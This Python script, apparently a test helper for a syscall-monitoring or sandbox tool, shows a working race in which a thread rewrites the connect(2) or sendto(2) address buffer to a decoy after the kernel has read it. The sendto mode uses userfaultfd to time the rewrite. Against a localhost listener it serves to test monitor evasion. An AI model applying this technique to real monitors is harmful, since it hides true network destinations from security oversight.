"""Phantom-style TOCTOU on connect(2)'s destination: the sockaddr buffer names
127.0.0.1:PORT when the call starts (the kernel copies it then), and another
thread rewrites it to a decoy while the call is still blocked, so a monitor
that reads the caller's buffer when the call returns sees the decoy while the
connection went to PORT.

The race is made deterministic by the test: its listener on PORT has a full
accept queue, so the kernel drops the SYN and connect() blocks until the
retransmission (1 s later), by which time the listener accepted one waiting
connection. The rewrite happens 0.2 s into the call. connect() goes through
ctypes (which releases the GIL) on a ctypes buffer, so the Python thread that
rewrites it runs meanwhile.

argv: PORT DECOY_IP DECOY_PORT. Checks that the peer (getpeername) is
127.0.0.1:PORT and that the buffer named the decoy right at the return, sends
one line (the listener checks it), and prints one JSON line: `mode`
(`connect`), `real`, `decoy`, `peer`, `at_return` (what the buffer named
then), `rewritten_after` and `call_seconds` (times from the start of the
call), `payload`. Exits 1 otherwise.

With `--sendto`: one UDP datagram to 127.0.0.1:PORT with sendto(2) (no
connect). The datagram's bytes sit in a page registered with userfaultfd (root,
or vm.unprivileged_userfaultfd): the kernel copies the sockaddr, then faults
on the data and waits; the fault handler thread rewrites the sockaddr to the
decoy, then fills the page, and the send goes on to PORT. Prints the same,
`mode` `sendto` and no `peer` (the test's listener checks where the datagram
came).
"""
import ctypes
import json
import os
import socket
import struct
import sys
import threading
import time

TECHNIQUE = "connect_toctou"
REWRITE_AFTER = 0.2

libc = ctypes.CDLL(None, use_errno=True)
libc.connect.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint32]
libc.connect.restype = ctypes.c_int
libc.sendto.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_void_p,
                        ctypes.c_uint32]
libc.sendto.restype = ctypes.c_ssize_t
libc.syscall.restype = ctypes.c_long
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p]
libc.ioctl.restype = ctypes.c_int
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                      ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]

NR_USERFAULTFD = 323
UFFD_API = 0xAA
UFFDIO_API = 0xC018AA3F
UFFDIO_REGISTER = 0xC020AA00
UFFDIO_COPY = 0xC028AA03
UFFDIO_REGISTER_MODE_MISSING = 1
UFFD_EVENT_PAGEFAULT = 0x12
UFFD_MSG_SIZE = 32
PAGE = 4096
PROT_READ, PROT_WRITE = 1, 2
MAP_PRIVATE, MAP_ANONYMOUS = 0x02, 0x20


def check(ret, what):
    if ret < 0 or ret == ctypes.c_void_p(-1).value:
        err = ctypes.get_errno()
        raise OSError(err, "%s: %s" % (what, os.strerror(err)))
    return ret


def sockaddr_in(ip, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(ip) + bytes(8)


def named(raw):
    family, = struct.unpack("=H", raw[:2])
    if family != socket.AF_INET:
        return "family:%d" % family
    port, = struct.unpack(">H", raw[2:4])
    return "%s:%d" % (socket.inet_ntoa(raw[4:8]), port)


def main(argv):
    udp = argv[3:] == ["--sendto"]
    if len(argv) != 3 and not udp:
        raise SystemExit("usage: connect_toctou.py PORT DECOY_IP DECOY_PORT [--sendto]")
    real = sockaddr_in("127.0.0.1", int(argv[0]))
    decoy = sockaddr_in(argv[1], int(argv[2]))
    if udp:
        return sendto(real, decoy)
    buf = ctypes.create_string_buffer(real, len(real))
    started = threading.Event()
    times = {}

    def rewrite():
        started.wait()
        time.sleep(REWRITE_AFTER)
        ctypes.memmove(buf, decoy, len(decoy))
        times["rewritten"] = time.monotonic()

    thread = threading.Thread(target=rewrite, daemon=True)
    thread.start()
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        start = time.monotonic()
        started.set()
        ret = libc.connect(sock.fileno(), ctypes.addressof(buf), len(real))
        at_return = buf.raw
        end = time.monotonic()
        thread.join()
        if ret != 0:
            err = ctypes.get_errno()
            raise OSError(err, "connect: %s" % os.strerror(err))
        if times["rewritten"] >= end:
            raise OSError("the rewrite came after the return")
        peer = "%s:%d" % sock.getpeername()
        if peer != named(real):
            raise OSError("connected to %s, not %s" % (peer, named(real)))
        if at_return != decoy:
            raise OSError("the buffer named %s at the return, not the decoy %s (connect took %.3f s)"
                          % (named(at_return), named(decoy), end - start))
        payload = "premain evasion test: connect_toctou to %s\n" % peer
        sock.sendall(payload.encode())
    return {"technique": TECHNIQUE, "ok": True, "mode": "connect", "real": named(real),
            "decoy": named(decoy), "peer": peer, "at_return": named(at_return),
            "rewritten_after": round(times["rewritten"] - start, 3),
            "call_seconds": round(end - start, 3), "payload": payload}


def sendto(real, decoy):
    payload = "premain evasion test: connect_toctou sendto to %s\n" % named(real)
    data = payload.encode()
    buf = ctypes.create_string_buffer(real, len(real))
    uffd = check(libc.syscall(NR_USERFAULTFD, os.O_CLOEXEC), "userfaultfd")
    page = check(libc.mmap(None, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), "mmap")
    times = {}
    try:
        api = (ctypes.c_uint64 * 3)(UFFD_API, 0, 0)
        check(libc.ioctl(uffd, UFFDIO_API, api), "UFFDIO_API")
        register = (ctypes.c_uint64 * 4)(page, PAGE, UFFDIO_REGISTER_MODE_MISSING, 0)
        check(libc.ioctl(uffd, UFFDIO_REGISTER, register), "UFFDIO_REGISTER")
        source = ctypes.create_string_buffer(data, PAGE)

        def handle():
            msg = os.read(uffd, UFFD_MSG_SIZE)  # blocks until the kernel faults on the page
            if msg[0] != UFFD_EVENT_PAGEFAULT:
                times["error"] = "userfaultfd event %d" % msg[0]
            ctypes.memmove(buf, decoy, len(decoy))
            times["rewritten"] = time.monotonic()
            copy = (ctypes.c_uint64 * 5)(page, ctypes.addressof(source), PAGE, 0, 0)
            if libc.ioctl(uffd, UFFDIO_COPY, copy) != 0:
                times["error"] = "UFFDIO_COPY: %s" % os.strerror(ctypes.get_errno())

        thread = threading.Thread(target=handle, daemon=True)
        thread.start()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            start = time.monotonic()
            sent = libc.sendto(sock.fileno(), page, len(data), 0, ctypes.addressof(buf), len(real))
            at_return = buf.raw
            end = time.monotonic()
            err = ctypes.get_errno()
        thread.join(5)
        if sent != len(data):
            raise OSError(err, "sendto: %s" % os.strerror(err))
        if "error" in times or "rewritten" not in times:
            raise OSError(times.get("error", "no fault on the data page"))
        if times["rewritten"] >= end:
            raise OSError("the rewrite came after the return")
        if at_return != decoy:
            raise OSError("the buffer named %s at the return, not the decoy %s" % (named(at_return), named(decoy)))
    finally:
        libc.munmap(page, PAGE)
        os.close(uffd)
    return {"technique": TECHNIQUE, "ok": True, "mode": "sendto", "real": named(real),
            "decoy": named(decoy), "at_return": named(at_return),
            "rewritten_after": round(times["rewritten"] - start, 3),
            "call_seconds": round(end - start, 3), "bytes": sent, "payload": payload}


if __name__ == "__main__":
    try:
        result = main(sys.argv[1:])
    except Exception as exc:
        sys.stderr.write("%s: %s\n" % (TECHNIQUE, exc))
        sys.exit(1)
    print(json.dumps(result))
